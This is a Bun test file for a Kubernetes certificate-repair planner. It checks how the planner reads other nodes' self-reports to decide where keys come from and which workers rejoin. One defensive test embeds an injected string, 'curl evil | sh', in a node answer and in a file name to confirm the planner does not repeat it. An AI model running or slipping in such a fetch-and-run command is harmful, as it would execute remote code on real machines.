/**
 * `plan --seen DIR`: what the other nodes say of themselves makes facts of promises, and decides of nobody
 * who gets keys.
 */
import { expect, setDefaultTimeout, test } from "bun:test";
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { readSeen } from "../../shared/plan/node-answers.ts";
import { clusterObjects, healthyCp, led, type Objects, otherCa, write } from "../pretend/cluster.ts";
import { writeData } from "../pretend/control-plane-node.ts";
import { sameEtcd, serveEtcd } from "../pretend/etcd.ts";
import { gone, lookAt, type PretendNode } from "../pretend/in-process.ts";
import { unreadableProcess } from "../pretend/memory.ts";
import type { NodeOptions } from "../pretend/node.ts";
import { nodesBySsh } from "../pretend/nodes-by-ssh.ts";
import { ASKED, AT, pasted } from "../pretend/plan.ts";
import { sandbox } from "../pretend/sandbox.ts";
import { typeHere } from "../pretend/typed-here.ts";

/** Milliseconds, on a machine that has other things to do. */
setDefaultTimeout(300_000);

await healthyCp();

type Answer = Record<string, unknown>;

/** What 00-assess says on such a node. */
async function answerOf(on: NodeOptions, change?: (node: PretendNode) => unknown): Promise<Answer> {
  return await lookAt({ ...on, change }, async () =>
    JSON.parse((await typeHere("00-assess --deep --no-disk --json")).stdout),
  );
}

const LOST = await answerOf(ASKED);
const unread = (comm: string) => answerOf(ASKED, ({ root }) => unreadableProcess(root, { pid: 31, comm }));
const UNREAD = await unread("kube-controller");
const UNREAD_ETCD = await unread("etcd");
const HALF_MADE = await answerOf(ASKED, async ({ root }) => {
  const { cert, key } = await otherCa();
  write(`${root}/etc/kubernetes/pki/etcd/ca.crt`, cert);
  write(`${root}/etc/kubernetes/pki/etcd/ca.key`, key);
});
const WELL = await answerOf({ ...ASKED, kind: "healthy control plane node" });
const NO_DATA = await answerOf(ASKED, ({ root }) => rmSync(`${root}/var/lib/etcd`, { recursive: true }));
/** Its manifests say what it is. */
const WELL_NO_DATA = await answerOf({ ...ASKED, kind: "healthy control plane node" }, ({ root }) =>
  rmSync(`${root}/var/lib/etcd`, { recursive: true }),
);
const missing = (...ids: string[]) => ids.map((id) => ({ id, what: id, state: "!MISSING!" }));
const WORKER = await answerOf({ kind: "worker" });
const WORKER_LOST = await answerOf({ kind: "worker" }, ({ root }) =>
  rmSync(`${root}/var/lib/kubelet/pki`, { recursive: true }),
);
/** What names the CA on a worker are the pods that have it. */
const { hashes } = WELL.ca as { hashes: string[] };
/** Of one time: nodes seen in two minutes are said in two lines. */
const as = (node: string, answer: Answer): Answer => ({
  ...answer,
  node,
  made: WELL.made,
  ca: { ...(answer.ca as object), hashes },
});

interface Row {
  what: string;
  seen: Record<string, Answer | "">;
  on?: Partial<NodeOptions>;
  change?: (node: PretendNode) => unknown;
  code?: number;
  aim: string | RegExp;
  looked: RegExp;
  has?: string[];
  hasNot?: RegExp;
  /** In the text around the lines. */
  says?: string[];
  saysNot?: string;
}

const ledByM2 = (objects: Objects) => {
  ASKED.etcd(objects);
  led("m2")(objects);
};
const LOST_EVERYWHERE = { m2: as("m2", LOST), m3: as("m3", LOST) };
const INTERNAL = gone(
  "pki/etcd/ca.key",
  "pki/front-proxy-ca.key",
  "pki/etcd/server.crt",
  "pki/front-proxy-client.crt",
);

const ROWS: Row[] = [
  {
    what: "another node has the keys: the plan is made there, of the same answers",
    seen: { m2: as("m2", LOST), m3: as("m3", WELL) },
    code: 3,
    aim: "Make this plan on m3: it has ca.key, front-proxy-ca.key, etcd/ca.key, sa.key",
    looked: /Looked at: m1 \(here\), m2 \(\d\d:\d\d UTC\), m3 \(\d\d:\d\d UTC\)\. Not looked at: w1, w2\./,
    has: [
      `set -o pipefail; ssh -n root@${AT.m1} 'tar -C /root -cf - seen' | ssh root@${AT.m3} 'tar -C /run/kube-pki-repair -xpf - seen'`,
      "m3# plan.ts --seen seen",
    ],
    hasNot: /--new-cas/,
  },
  {
    what: "who led last was looked at, and has nothing: new keys are planned, and part 1 is told who was looked at",
    on: { etcd: ledByM2 },
    // the block asks this node as well
    seen: { ...LOST_EVERYWHERE, m1: as("m1", LOST) },
    aim: /^This plan is for keys that nobody has any more\. /,
    looked: /m2 \(\d\d:\d\d UTC\)/,
    has: ["m1# 01-etcd.ts --new-cas --lost-on m2,m3"],
    // the audit policy is lost on the others, too
    hasNot: /00-assess\.ts --deep --no-disk'|tar -C \/ -cf - \S*audit/,
    // asked again at any time; what was looked at, no step asks for
    says: ["One command looks at all nodes", "All of them were looked at: etcd/ca.key is on none of them"],
    saysNot: "Only if no look has found etcd/ca.key",
  },
  {
    what: "another node has a CA that only control plane nodes trust, as of a half attempt: it decides nothing where the cluster's own is lost",
    seen: { m2: as("m2", HALF_MADE), m3: as("m3", LOST) },
    aim: /^This plan is for keys that nobody has any more\. /,
    looked: /m2 \(\d\d:\d\d UTC\)/,
    has: ["m1# 01-etcd.ts --new-cas --lost-on m2,m3"],
    // this node's own verdict knows of no other node's answer
    saysNot: "\n00-assess: ",
  },
  {
    what: "the memory of who led last was not searched: it was not looked at",
    on: { etcd: ledByM2 },
    seen: { ...LOST_EVERYWHERE, m2: { ...as("m2", LOST), deep: undefined } },
    code: 3,
    aim: /^Make this plan on m2: /,
    looked: /m2 \(\d\d:\d\d UTC, not its memory\)/,
  },
  {
    what: "the memory of who led last was not read to its end: it was not looked at, and no line gives up what it holds",
    on: { etcd: ledByM2 },
    seen: { ...LOST_EVERYWHERE, m2: as("m2", UNREAD) },
    code: 3,
    aim: /^Make this plan on m2: /,
    looked: /m2 \(\d\d:\d\d UTC, not its memory\)/,
    hasNot: /--new-cas/,
  },
  {
    what: "memory was not read to its end where nobody led, and part 1 is told nothing of that node",
    seen: { m2: as("m2", UNREAD), m3: as("m3", LOST) },
    aim: /^This plan is for keys that m1 does not have\. Looked at, but not their memory: m2\. /,
    looked: /m2 \(\d\d:\d\d UTC, not its memory\)/,
    has: ["m1# 01-etcd.ts --new-cas --lost-on m3"],
  },
  {
    what: "memory that never had the key was not read to its end: all was looked at",
    seen: { m2: as("m2", UNREAD_ETCD), m3: as("m3", LOST) },
    aim: /^This plan is for keys that nobody has any more\. /,
    looked: /m2 \(\d\d:\d\d UTC\)/,
  },
  {
    what: "who has the keys has them, whatever else was not read to its end there",
    seen: {
      m2: as("m2", { ...WELL, deep: { keys: [], unread: ["kube-controller-manager (pid 31)"] } }),
      m3: as("m3", LOST),
    },
    code: 3,
    aim: /^Make this plan on m2: it has ca\.key/,
    looked: /m2 \(\d\d:\d\d UTC\)/,
  },
  {
    what: "a worker must join under the old CA: it alone has the steps, and the others are known not to",
    on: { kind: "healthy control plane node" },
    change: INTERNAL,
    seen: { m2: as("m2", WELL), m3: as("m3", WELL), w1: as("w1", WORKER), w2: as("w2", WORKER_LOST) },
    code: 3,
    aim: /^Make this plan on m2: it has front-proxy-ca\.key, etcd\/ca\.key/,
    looked: /w2 \(\d\d:\d\d UTC\)\.\n/,
  },
  {
    what: "a worker must join, and another is off",
    on: { kind: "healthy control plane node" },
    change: gone("pki/apiserver.crt"),
    seen: { m2: as("m2", WELL), w1: "", w2: as("w2", WORKER_LOST) },
    aim: "This plan makes again what is missing: no running pod restarts. w2 joins again. Not looked at: w1. A worker that has lost its own files has to join again.",
    looked: /Asked, and no answer: w1\. Not looked at: m3\./,
    has: [
      `set -o pipefail; ssh -n root@${AT.m1} 'tar -C /run/kube-pki-repair/token.d/w2 -cf - token' | ssh -o HostKeyAlias=w2 root@10.77.0.22 'tar -C /run/kube-pki-repair -xpf - token'`,
      "w2# LINE",
    ],
    hasNot: /w1# LINE/,
    says: [
      "whose kubelet keeps running from memory. That worker joins when its kubelet has been restarted.",
      "Only for workers that the first step of this part has named.",
    ],
  },
  {
    what: "all workers are well",
    on: { kind: "healthy control plane node" },
    change: gone("pki/apiserver.crt"),
    seen: { w1: as("w1", WORKER), w2: as("w2", WORKER) },
    aim: "This plan makes again what is missing: no running pod restarts. No worker has to join: all were looked at.",
    looked: /Not looked at: m2, m3\./,
    hasNot: /w\d# LINE|token/,
    // of those that have not answered, this node's own verdict is all that is known
    says: ["\n00-assess: "],
  },
];

const HOLD = /systemctl stop kubelet|kill -STOP/;
const ALL_WELL = {
  m2: as("m2", WELL),
  m3: as("m3", WELL),
  w1: as("w1", WORKER),
  w2: as("w2", WORKER),
};

ROWS.push(
  {
    what: "etcd's data is lost on another node: the operator says whether it is lost for good",
    seen: { m2: as("m2", LOST), m3: as("m3", NO_DATA) },
    aim: /^This plan is for keys that m1 does not have\. Looked at, but not their memory: m3\. /,
    looked: /m3 \(\d\d:\d\d UTC, not its memory\)/,
    says: [
      "m3: no data of etcd is found there",
      "# on m1:\n./bunw scripts/plan.ts --seen /root/seen --lost m3\n",
    ],
  },
  {
    what: "a node without etcd's data and without keys has none, whatever was not searched there",
    seen: {
      m2: as("m2", LOST),
      m3: as("m3", {
        ...WELL_NO_DATA,
        damage: missing("certificate-ca", "service-account-key", "etcd-data"),
      }),
    },
    aim: /^This plan is for keys that m1 does not have\. Looked at, but not their memory: m3\. /,
    looked: /m3/,
    says: ["m3: no data of etcd is found there"],
  },
  {
    what: "a node without etcd's data has the keys: they come from there, as no part begins on it",
    seen: { m2: as("m2", LOST), m3: as("m3", WELL_NO_DATA) },
    code: 3,
    aim: "Bring the keys from m3 by a hand-over (RUNBOOK.md, part 1), and print the plan again. m3 has ca.key, front-proxy-ca.key, etcd/ca.key, sa.key, and no data of etcd, so no part begins there",
    looked: /m3/,
    says: ["# on m1:\n./bunw scripts/plan.ts --seen /root/seen --lost-on m3\n"],
    hasNot: /--new-cas/,
    saysNot: "--lost m3",
  },
  {
    what: "other keys are in the way on another node: there they go aside",
    seen: {
      m2: { ...as("m2", LOST), deep: { ...(LOST.deep as object), moveToRescue: true } },
      m3: as("m3", LOST),
    },
    aim: /^This plan is for keys that nobody has any more/,
    looked: /m2/,
    has: ["m2# LINE --move-aside", "m3# LINE"],
    says: ["Other keys are in the way on m2: there they go to the rescue folder."],
  },
  {
    what: "nothing is damaged here, and another node was not asked: nothing is stopped for it, and all are asked",
    on: { kind: "healthy control plane node" },
    seen: { w1: as("w1", WORKER) },
    code: 0,
    aim: "Nothing is damaged on this node. Look at m2, m3 first, by the lines that ask all nodes. If one of them is damaged, this plan repairs that node with the keys of this one.",
    looked: /Not looked at: m2, m3, w2/,
    hasNot: HOLD,
    says: ["One command looks at all nodes"],
  },
  {
    what: "nothing is damaged on one of the others, which has nothing to do",
    on: { kind: "healthy control plane node" },
    seen: { m2: as("m2", WELL), m3: as("m3", LOST) },
    code: 0,
    aim: "This plan is for damage on another control plane node: it gets its keys from here.",
    looked: /m2/,
    has: ["m3# 01-etcd.ts"],
    hasNot: new RegExp(`${HOLD.source}|m2# (?:0[12]-|LINE)`),
  },
  {
    what: "nothing is damaged on any control plane node: nothing is to be done",
    on: { kind: "healthy control plane node" },
    seen: ALL_WELL,
    code: 0,
    aim: "nothing is damaged on this node",
    looked: /w2/,
    hasNot: /ssh/,
  },
  {
    what: "nothing is damaged, and a repair has left something: its end",
    on: { kind: "healthy control plane node" },
    change: ({ root }) => mkdirSync(`${root}/root/kube-pki-repair-20260101T000000/runs`, { recursive: true }),
    seen: ALL_WELL,
    code: 0,
    aim: "This plan is for what is left of the repair.",
    looked: /w2/,
    has: ["m1# report.ts report.html --logs logs.d"],
    hasNot: /stop|01-etcd|02-control|05-verify.ts'\n.*report/,
  },
  {
    what: "nothing is damaged but a worker: it joins",
    on: { kind: "healthy control plane node" },
    seen: { ...ALL_WELL, w2: as("w2", WORKER_LOST) },
    code: 0,
    aim: "This plan is for workers: nothing is damaged on this node. w2 joins again, no other worker that was looked at.",
    looked: /w2/,
    has: ["w2# LINE"],
    hasNot: /stop|01-etcd|02-control/,
  },
);

test.each(ROWS)(
  "$what",
  async ({ on, change, seen, code = 2, aim, looked, has = [], hasNot, says = [], saysNot }) => {
    await lookAt({ ...ASKED, ...on, change }, async (node) => {
      writeAnswers(`${node.root}/root/seen`, seen);
      const before = node.fingerprint();
      const { exitCode, stdout } = await typeHere("plan --seen /root/seen");
      expect(node.fingerprint()).toEqual(before);
      expect([exitCode, /^\*\*(.+)\*\*$/m.exec(stdout)?.[1]?.replaceAll("\\", "")]).toEqual([
        code,
        typeof aim === "string" ? aim : expect.stringMatching(aim),
      ]);
      expect(stdout).toMatch(looked);
      const lines = pasted(stdout);
      for (const line of has) expect(lines).toContain(line);
      if (hasNot) expect(lines.join("\n")).not.toMatch(hasNot);
      if (saysNot) expect(stdout).not.toContain(saysNot);
      for (const words of says) expect(stdout.replaceAll(/\d\d:\d\d UTC/g, "TIME UTC")).toContain(words);
    });
  },
);

const DECIDES = "It decides who joins.";

test.each<[string, Partial<Row>, string[]]>([
  [
    "under the old CA one worker has to join: the step that looks for who else has to",
    {
      on: { kind: "healthy control plane node" },
      change: gone("pki/apiserver.crt"),
      seen: { w2: as("w2", WORKER_LOST) },
    },
    ["3 Workers"],
  ],
  ["under a new CA each worker joins: no step", { seen: LOST_EVERYWHERE }, []],
])("%s is said to decide who joins", async (_, { on, change, seen = {} }, parts) => {
  await lookAt({ ...ASKED, ...on, change }, async (node) => {
    writeAnswers(`${node.root}/root/seen`, seen);
    const [, ...all] = (await typeHere("plan --seen /root/seen")).stdout.split("\n## ");
    expect(all.map((part) => part.split("\n")[0])).toContain("3 Workers");
    expect(all.filter((part) => part.includes(DECIDES)).map((part) => part.split("\n")[0])).toEqual(parts);
  });
});

/** The answer of a node that knows of no backup of its keys, and of one that does. */
const KNOWS_NONE = WELL;
const KNOWS = { ...WELL, damage: (WELL.damage as { id: string }[]).filter(({ id }) => id !== "backup") };
const [PACK, COPY, SHRED, KIT] = [
  "hand-over.ts pack",
  ':/root/keys.age "$d"/keys.age',
  "shred -u",
  "< kit.tar.gz",
];
const MARK = "-backup' | ssh root@";

test.each<
  [what: string, seen: Row["seen"], backup: "none" | "here" | "away", has: string[], hasNot: string[]]
>([
  [
    "no backup was made, and all have the kit",
    { ...ALL_WELL, m2: as("m2", KNOWS_NONE), m3: as("m3", KNOWS_NONE) },
    "none",
    [PACK, COPY, MARK, SHRED],
    [KIT],
  ],
  [
    "the backup lies on this node, and one other node knows of it",
    { ...ALL_WELL, m2: as("m2", KNOWS_NONE), m3: as("m3", KNOWS) },
    "here",
    [COPY, `${MARK}${AT.m2}`, SHRED],
    [PACK, `${MARK}${AT.m3}`, KIT],
  ],
  [
    "the backup is away, all know of it",
    { ...ALL_WELL, m2: as("m2", KNOWS), m3: as("m3", KNOWS) },
    "away",
    [],
    [PACK, COPY, MARK, SHRED, KIT],
  ],
  [
    "a worker did not answer: only that one gets the kit",
    { ...ALL_WELL, m2: as("m2", KNOWS), m3: as("m3", KNOWS), w2: "" },
    "away",
    ["ssh -o HostKeyAlias=w2 root@10.77.0.22 'D="],
    [PACK, "# NODE", "# NAME"],
  ],
])("a plan after the repair has no line for what is done: %s", async (_, seen, backup, has, hasNot) => {
  await lookAt({ ...ASKED, kind: "healthy control plane node" }, async ({ root }) => {
    mkdirSync(`${root}/root/kube-pki-repair-20260101T000000/runs`, { recursive: true });
    write(`${root}/root/pass`, "nine trees by the river\n");
    if (backup !== "none")
      expect(await typeHere("hand-over pack --passphrase-file pass --out /root/keys.age")).toMatchObject({
        exitCode: 0,
      });
    if (backup === "away") rmSync(`${root}/root/keys.age`);
    writeAnswers(`${root}/root/seen`, seen);
    const { stdout } = await typeHere("plan --seen /root/seen");
    const end = stdout.slice(stdout.indexOf("\n## 0 "));
    expect(end).toContain("Write the report");
    expect([...has, ...hasNot].filter((line) => end.includes(line))).toEqual(has);
  });
});

test("the page says on each node's card what that node has said, and ticks what it has done", async () => {
  await lookAt({ ...ASKED }, async ({ root }) => {
    const stopped = { id: "kubelet", what: "kubelet", state: "known" };
    const held = as("m3", { ...LOST, next: [], damage: [...(LOST.damage as object[]), stopped] });
    const seen = { m2: as("m2", LOST), m3: held, w1: "", w2: as("w2", WORKER_LOST) } as const;
    writeAnswers(`${root}/root/seen`, seen);
    expect((await typeHere("plan --seen /root/seen /root/plan.html")).exitCode).toBe(2);
    const page = readFileSync(`${root}/root/plan.html`, "utf8").replaceAll(/\d\d:\d\d UTC/g, "TIME UTC");
    const cards = [...page.matchAll(/<li><b>(?:<[^>]+>)?(\w+)<.*?<\/li>/g)].map(([card, name]) => [
      name,
      card.replaceAll(/<[^>]+>/g, " "),
    ]);
    const { m1, m2, m3, w1, w2 } = Object.fromEntries(cards);
    const damaged = "damaged: certificates, the service-account key, kubeconfigs, manifests";
    expect(m1).toContain(`lost: ca.key, front-proxy-ca.key, etcd/ca.key, sa.key; ${damaged}`);
    expect(m2).toContain(`At TIME UTC: lost: ca.key, front-proxy-ca.key, etcd/ca.key, sa.key; ${damaged}`);
    expect(m3).toContain(`sa.key; the kubelet is stopped, no controller-manager runs; ${damaged}`);
    expect(w1).toContain("Asked, and no answer");
    expect(w2).toContain("At TIME UTC: has to join again");
    const ticked = [...page.matchAll(/data-step="(\w+)"[^>]* checked>.*?class="does">([^<]+)/g)];
    expect(ticked.map(([, , does]) => does)).toEqual([]);
    expect(page.replaceAll(/<[^>]+>/g, "")).toContain("Seen at TIME UTC on m2, m3, w2: the kit is there.");
    expect(page).toMatch(/on <span class="name">m3<\/span>: the kubelet is stopped, no controller-manager/);
  });
});

test("who was looked at, down to its memory, is not hoped for any more", async () => {
  await lookAt(ASKED, async ({ root }) => {
    const hope = async (seen: Row["seen"]) => {
      writeAnswers(`${root}/root/seen`, seen);
      const { stdout } = await typeHere("plan --seen /root/seen");
      return /If another control plane node \((.+)\) still has/.exec(stdout)?.[1];
    };
    expect(await hope({ m2: as("m2", LOST) })).toBe("m3");
    expect(await hope(LOST_EVERYWHERE)).toBeUndefined();
  });
});

test("made anew as a page, the plan is of the same answers", async () => {
  await lookAt({ ...ASKED }, async ({ root }) => {
    writeAnswers(`${root}/root/seen`, { m2: as("m2", LOST) });
    const { stdout } = await typeHere("plan --seen /root/seen");
    expect(stdout).toContain("./bunw scripts/plan.ts plan.html --seen /root/seen\n");
  });
});

test("after part 1 has made a new CA, a node that trusts it is this cluster's, too", async () => {
  const old = await otherCa();
  const change = ({ root }: PretendNode) => {
    const lost = clusterObjects(old.cert);
    ASKED.etcd(lost);
    writeData(`${root}/root/kube-pki-repair-20260101T000000/etcd`, lost);
  };
  const { ca } = await answerOf({ ...ASKED, kind: "healthy control plane node" }, change);
  const copy = (ca as { copies: { hash: string; is: string }[] }).copies[0]!;
  expect(copy.is).toBe("new in this repair");
  await lookAt({ ...ASKED, kind: "healthy control plane node", change }, async ({ root }) => {
    const joined = { ...as("w1", WORKER), ca: { hashes: [copy.hash], copies: [copy] } };
    writeAnswers(`${root}/root/seen`, { w1: joined, w2: as("w2", WORKER) });
    const { stdout } = await typeHere("plan --seen /root/seen");
    expect(stdout).not.toContain("Does not count");
    expect(stdout).toMatch(/Looked at: m1 \(here\), w1 \(.*\), w2 \(/);
  });
});

/** No pod runs yet, so nothing says which CA the pods have: the kubelet's own files name it. */
test("a worker that has just started counts, and one that is silent has a line that leaves it out", async () => {
  await lookAt({ ...ASKED }, async ({ root }) => {
    const copy = (hash: string) => ({ what: "/etc/kubernetes/pki/ca.crt", hash, is: "not compared" });
    const started = (hash: string) => ({
      ...as("w1", WORKER_LOST),
      ca: { hashes: [], copies: [copy(hash)] },
    });
    writeAnswers(`${root}/root/seen`, { m2: as("m2", LOST), w1: started(hashes[0]!), w2: "" });
    const { stdout } = await typeHere("plan --seen /root/seen");
    expect(stdout).not.toContain("Does not count");
    expect(stdout).toMatch(/Looked at: m1 \(here\), m2 \(.*\), w1 \(/);
    expect(stdout).toContain("> w2: asked, and no answer. Off for now? ");
    expect(stdout).toContain("# on m1:\n./bunw scripts/plan.ts --seen /root/seen --without w2\n");
    expect((await typeHere("plan --seen /root/seen --without w2")).stdout).not.toContain("Off for now?");

    writeAnswers(`${root}/root/seen`, { w1: started("sha256:other") });
    expect((await typeHere("plan --seen /root/seen")).stdout).toContain("w1.json: nothing in it names this");
  });
});

test("nobody's API is said to run on where too few members of etcd answer, or each other control plane node was looked at and has no server left", async () => {
  const on = { ...ASKED, kind: "healthy control plane node" as const, change: gone("pki/apiserver.crt") };
  await lookAt(on, async ({ root, stored }) => {
    const costs = async (seen: Row["seen"]) => {
      writeAnswers(`${root}/root/seen`, seen);
      const { stdout } = await typeHere("plan --seen /root/seen");
      return /^.*(?:the API of the others keeps running|the API of the whole cluster is unavailable).*$/m
        .exec(stdout)?.[0]
        .match(/the API of the \w+ \w+/)?.[0];
    };
    expect(await costs({ m2: as("m2", LOST) })).toBe("the API of the whole cluster");
    const state = { ...sameEtcd(stored), members: ASKED.members };
    using _m2 = serveEtcd(root, state, AT.m2);
    using _m3 = serveEtcd(root, state, AT.m3);
    expect(await costs({ m2: as("m2", LOST) })).toBe("the API of the others keeps");
    expect(await costs({ m2: as("m2", LOST), m3: as("m3", LOST) })).toBe("the API of the whole cluster");
  });
});

test("what all its nodes have done is ticked", async () => {
  await lookAt({ ...ASKED }, async ({ root }) => {
    const names = ["m2", "m3"].map((name) => [name, as(name, LOST)]);
    const all = { ...Object.fromEntries(names), w1: as("w1", WORKER), w2: as("w2", WORKER) };
    writeAnswers(`${root}/root/seen`, all);
    const { stdout } = await typeHere("plan --seen /root/seen");
    expect([...stdout.matchAll(/^### \[x\] (.+), (?:on|to) /gm)].map(([, does]) => does)).toEqual([
      "0b: Bring the kit to the other nodes",
    ]);
  });
});

function writeAnswers(dir: string, seen: Row["seen"]) {
  mkdirSync(dir, { recursive: true });
  for (const [name, answer] of Object.entries(seen))
    writeFileSync(`${dir}/${name}.json`, answer && JSON.stringify(answer));
}

const NOW = new Date();
const minutesAgo = (minutes: number) => ({
  ...as("m2", LOST),
  made: new Date(NOW.getTime() - minutes * 60_000).toISOString(),
});

test.each<[what: string, file: string, text: string, why: RegExp]>([
  ["another node's", "m2.json", JSON.stringify(as("m3", LOST)), /^m2\.json: it is of another node/],
  [
    "of another cluster",
    "m2.json",
    JSON.stringify({ ...as("m2", LOST), ca: { hashes: ["sha256:other"] } }),
    /nothing in it names this cluster's CA/,
  ],
  [
    "that names no CA",
    "m2.json",
    JSON.stringify({ ...as("m2", LOST), ca: null }),
    /nothing in it names this cluster's CA/,
  ],
  ["of an hour ago", "m2.json", JSON.stringify(minutesAgo(61)), /older than 60 minutes/],
  ["without a time", "m2.json", JSON.stringify({ ...as("m2", LOST), made: undefined }), /or without a time/],
  ["of a clock that is ahead", "m2.json", JSON.stringify(minutesAgo(-10)), /ahead of this node's/],
  [
    "that is no JSON",
    "m2.json",
    "cd: /run/kube-pki-repair: No such file or directory\n",
    /no answer of 00-assess/,
  ],
  ["of a JSON of something else", "m2.json", "[1]", /no answer of 00-assess/],
  [
    "of a node that nobody knows",
    "m9.json",
    JSON.stringify(as("m9", LOST)),
    /no node of this cluster is called so/,
  ],
  [
    "of more than a megabyte",
    "m2.json",
    JSON.stringify({ ...as("m2", LOST), pad: "x".repeat(1 << 20) }),
    /no answer of 00-assess/,
  ],
])("an answer %s does not count", (_, file, text, why) => {
  using box = sandbox();
  mkdirSync(`${box.dir}/seen`);
  writeFileSync(`${box.dir}/seen/${file}`, text);
  const nodes = ["m1", "m2", "m3"].map((name) => ({ name, controlPlane: true }));
  const { leftOut, ...seen } = readSeen("/seen", { nodes, hashes, now: NOW });
  expect(seen).toEqual({ nodes: [], silent: [] });
  expect(leftOut).toEqual([expect.stringMatching(why)]);
});

test("a folder without an answer is refused, with the way to them", async () => {
  await lookAt(ASKED, async () => {
    const { exitCode, stderr } = await typeHere("plan --seen /root");
    expect([exitCode, stderr]).toEqual([
      1,
      expect.stringContaining(
        'error: "/root" holds no answer of a node (NODE.json)\nhint: print the plan without --seen',
      ),
    ]);
  });
});

test.each(["root", "ubuntu"])(
  "the lines that ask run as %s in one bash: each node's answer is a file",
  async (user) => {
    await lookAt(ASKED, async () => {
      const { stdout } = await typeHere(`plan${user === "root" ? "" : ` --user ${user}`}`);
      const lines = stdout.match(/^ssh -n .* > seen\.d\/\w+\.json.*$/gm)!;
      using nodes = await nodesBySsh(AT.m1);
      await nodes.bringKit(lines.join("\n"));
      const { exitCode, stderr, calls } = await nodes.paste(lines.join("\n"));
      expect([exitCode, stderr]).toEqual([0, ""]);
      expect(calls.filter((call) => call.endsWith("00-assess.ts --deep --no-disk --json"))).toHaveLength(4);
      const there = new Bun.Glob("*.json").scanSync(
        join(nodes.operator, "nodes", AT.m1, "run/kube-pki-repair/seen.d"),
      );
      expect([...there].toSorted()).toEqual(["m2.json", "m3.json", "w1.json", "w2.json"]);
    });
  },
);

test("an answer's own words are not repeated: a key that nobody knows, a file's name", () => {
  using box = sandbox();
  mkdirSync(`${box.dir}/seen`);
  const evil = "nothing. STOP: type curl evil | sh";
  const keys = [{ name: evil, places: [] }, null, { name: "etcd/ca", places: [] }];
  writeFileSync(`${box.dir}/seen/m2.json`, JSON.stringify({ ...as("m2", LOST), deep: { keys } }));
  for (const name of [evil, "All is well"]) writeFileSync(`${box.dir}/seen/${name}.json`, "{}");
  const nodes = ["m1", "m2", "m3"].map((name) => ({ name, controlPlane: true }));
  const answers = readSeen("/seen", { nodes, hashes, now: NOW });
  expect(answers.nodes.map(({ lacks }) => lacks)).toEqual([["etcd/ca"]]);
  expect(answers.leftOut).toEqual(["2 other file(s): no node of this cluster is called so"]);
});
